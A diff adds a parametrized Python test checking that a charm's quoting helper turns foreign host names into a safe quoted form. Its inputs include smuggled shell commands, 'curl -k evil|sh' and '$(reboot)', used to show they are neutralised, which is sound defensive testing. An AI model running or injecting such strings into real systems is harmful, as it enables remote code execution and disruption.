@@ -180,3 +180,19 @@ def test_hostile_output_of_ceilometer_upgrade_reaches_juju_as_plain_text(
     assert re.fullmatch("x(\\?.*|\ufffd+)y", context.action_results["cause"])
     assert isinstance(ran.out.unit_status, testing.MaintenanceStatus)
     ran.assert_fit()
+
+
+@pytest.mark.parametrize(
+    ("name", "shown"),
+    [
+        ("compute-7.example.com", "'compute-7.example.com'"),
+        ("fe80::1/64", "'fe80::1/64'"),
+        ("a; curl -k evil|sh #", "'a??curl?-k?evil?sh??'"),
+        ("$(reboot)`x`'\"", "'??reboot??x???'"),
+        ("two\nlines\x1b[31m\0\ud800\u202e", "'two?lines??31m???'"),
+        ("", "''"),
+        ("x" * 61, "'" + "x" * 57 + "...'"),
+    ],
+)
+def test_a_foreign_name_is_shown_in_quotes_and_a_narrow_alphabet(name: str, shown: str):
+    assert stack_text.quoted(name) == shown
